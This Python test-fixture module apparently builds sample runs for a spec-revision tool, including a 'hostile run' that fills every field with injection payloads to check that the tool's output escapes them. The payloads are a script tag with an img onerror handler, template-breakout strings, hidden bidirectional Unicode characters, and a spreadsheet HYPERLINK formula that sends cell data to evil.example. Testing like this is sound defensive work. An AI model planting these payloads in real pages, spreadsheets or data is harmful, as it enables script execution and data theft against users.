"""Runs to look at: the bundled example, whole or paused, and one whose every text is hostile."""

import json
import os
import shutil
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from concord.agents.conflict import Compared, SpecPassage
from concord.agents.records import Ranked, Verdict
from concord.agreement.support import Support, SupportShare
from concord.api.config import ROLES
from concord.api.revise import revise_sync
from concord.graph.conflict_records import ConflictRecord, TurnedExample
from concord.graph.options import Options
from concord.graph.records import Decision, SupportRecord
from concord.graph.run_records import RunRecords
from concord.models.records import CallRecord, Where
from concord.panel.importers.load import load
from concord.panel.ranking import Ranking
from concord.review.reading.run import RunReading
from concord.spec import Edit, Proposal, Spec, apply
from concord.store.runs import RunFolder, write_json
from concord.trials.records import Look, Trial

EXAMPLE = Path(__file__).resolve().parents[3] / "example"
SCRIPT = "<script>window.stolen = 1</script><img src=x onerror='window.stolen = 1'>"
TEMPLATE = "</template></script></style></title>{{ 7 * 7 }}{% raw %}"
BIDI = "right \u202e left \u2066 hidden \U000e0041"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = f"{FORMULA} {SCRIPT} {TEMPLATE} {BIDI}"


def demo_run(home: Path, name: str, *, approve: bool = False) -> Path:
    """Run the bundled example into `home/name`; with `approve` it pauses at its first question."""
    before = os.environ.get("CONCORD_HOME")
    os.environ["CONCORD_HOME"] = str(home)
    # In a thread of its own: a browser's driver may hold this one's event loop.
    try:
        with ThreadPoolExecutor(1) as pool:
            pool.submit(
                revise_sync,
                EXAMPLE / "spec.md",
                EXAMPLE / "data",
                model="embedded",
                out=home / name,
                approve=approve,
            ).result()
    finally:
        if before is None:
            del os.environ["CONCORD_HOME"]
        else:
            os.environ["CONCORD_HOME"] = before
    return home / name


def copy_run(home: Path, name: str, to: Path) -> Path:
    """A copy of a run in another home, to be decided on."""
    to.mkdir(parents=True, exist_ok=True)
    shutil.copytree(home / name, to / name)
    one, other = (RunReading(RunFolder(place / name), place / "indexes").index for place in (home, to))
    if one.path.exists():  # copied with the run: building it again would take a second for each test
        other.path.parent.mkdir(exist_ok=True)
        shutil.copy(one.path, other.path)
    return to


def hostile_run(home: Path, name: str) -> Path:
    """A small finished run in which everything that comes from outside tries to break out."""
    data = home / f"{name}-data"
    data.mkdir()
    people = [f"person {number} {SCRIPT}" for number in range(8)]
    with (data / "comparisons.jsonl").open("w", encoding="utf-8") as file:
        for number in range(12):
            line = {
                "prompt_id": f"{FORMULA} {number} /?&#{SCRIPT}",
                "prompt": {"messages": [{"role": "user", "content": f"{HOSTILE} {number} \ud800"}]},
                "responses": [
                    {"response_index": label, "messages": [{"role": "assistant", "content": f"{HOSTILE} {label}"}]}
                    for label in "AB"
                ],
                "metadata": {
                    "assessments": [
                        {
                            "annotator_id": person,
                            "ranking_blocks": {"unacceptable": [], "personal": [], "world": [{"ranking": "A>B", "rationale": f"{HOSTILE} {person} \udfff"}]},
                        }
                        for person in people
                    ]
                },
            }  # fmt: skip
            file.write(json.dumps(line) + "\n")
    (data / "annotators.jsonl").write_text(
        "\n".join(
            json.dumps({"annotator_id": p, "demographics": {"age": SCRIPT}, "assessments": []})
            for p in people
        ),
        encoding="utf-8",
    )
    panel = load(data)
    spec = Spec.parse(f"# Top {{#top}}\n\n## Tone {{#tone}}\n\nBe short. {SCRIPT} {TEMPLATE}\n")
    folder = home / name
    folder.mkdir()
    roles = dict.fromkeys(ROLES, f"openai:{SCRIPT}")
    write_json(
        folder / "config.json",
        {
            "spec": str(data / f"{FORMULA[:4]}spec.md"), "data": str(data), "config": None, "limits": {},
            "options": Options().model_dump(mode="json"), "models": dict(roles),
            "spec_digest": spec.digest, "data_digest": panel.digest, "run": "hostile",
        },
    )  # fmt: skip
    records = RunRecords.create(folder)
    _fill(records, spec, list(panel.conversations), [one.id for one in panel.assessments], people)
    records.flush()
    records.close()
    summary = json.loads((home / "demo" / "summary.json").read_text(encoding="utf-8"))
    write_json(folder / "summary.json", {**summary, "notice": HOSTILE, "sealed_test": None, "adopted": []})
    return folder


def _fill(records: RunRecords, spec: Spec, ids: list[str], assessments: list[str], people: list[str]) -> None:
    edit = Edit(op="replace", section="tone", anchor="Be short.", text=f"Be kind. {HOSTILE}")
    proposal = Proposal(
        edits=(edit,), intent=HOSTILE, kind="clarification", origin="human", base=spec.digest, author=SCRIPT,
        conversations=tuple(ids[:2]),
    )  # fmt: skip
    after = apply(spec, proposal.edits)
    for text in (spec, after):
        records.put_text(text.text)
    records.proposals.add([proposal])
    call = CallRecord(
        id="00000000000000aa", where=Where(round=1, node="trial", subject=proposal.id), role="ranker",
        model=SCRIPT, template=SCRIPT, parts=(("system", HOSTILE), (SCRIPT, HOSTILE)), status="failed", raw=HOSTILE,
        failure=HOSTILE, attempts=1,
    )  # fmt: skip
    answered = call.model_copy(
        update={"id": "00000000000000bb", "status": "answered", "failure": "", "answer": {"ranking": HOSTILE}}
    )
    records.calls.add([call, answered])
    records.rankings.add(
        [
            Ranked(
                call=f"{number}{digest}", question=f"{number}{digest}", conversation=id_, spec=digest, sections=("tone",),
                order=("A", "B"), ranking=Ranking.parse("A>B"), explanation=HOSTILE,
            )
            for number, id_ in enumerate(ids)
            for digest in (spec.digest, after.digest)
        ]
    )  # fmt: skip
    look = Look(n=4, mean=0.1, statistic=1.0, threshold=2.0, outcome="positive")
    records.trials.add(
        [
            Trial(
                proposal=proposal.id, round=1, stage="trial", base=spec.digest, candidate=after.digest, rule="gaffke",
                alpha=0.01, planned=tuple(ids[:4]), differences=(0.2, 0.1, 0.0, -0.1), looks=(look,), outcome="positive",
                calls=8, reason=HOSTILE,
            )
        ]
    )  # fmt: skip
    records.verdicts.add(
        [
            Verdict(
                proposal=proposal.id, assessment=assessments[number], participant=people[number], stance="support",
                source=SCRIPT, call=call.id,
            )
            for number in range(6)
        ]
    )  # fmt: skip
    passage = SpecPassage(what="example", section="tone", label="GOOD", text=HOSTILE)
    pair = Compared(
        passage=passage, contradicts=True, changed=HOSTILE, other=HOSTILE, reason=HOSTILE, call=call.id
    )
    turned = TurnedExample(section="tone", good=HOSTILE, bad=HOSTILE, below_before=False, call=call.id)
    records.conflicts.add(
        [ConflictRecord(proposal=proposal.id, round=1, text=spec.digest, pairs=(pair,), turned=(turned,), certain=(HOSTILE,))]
    )  # fmt: skip
    split = SupportShare(
        **Support.of(["support"] * 30 + ["refute"] * 8).model_dump(), outcome="pass",
        groups={SCRIPT: {HOSTILE: Support.of(["refute"] * 8), "young": Support.of(["support"] * 30)}},
    )  # fmt: skip
    records.support.add([SupportRecord(proposal=proposal.id, round=1, support=split, asked=38)])
    records.decisions.add(
        [Decision(proposal=proposal.id, round=1, by="loop", decision="adopted", note=HOSTILE)]
    )
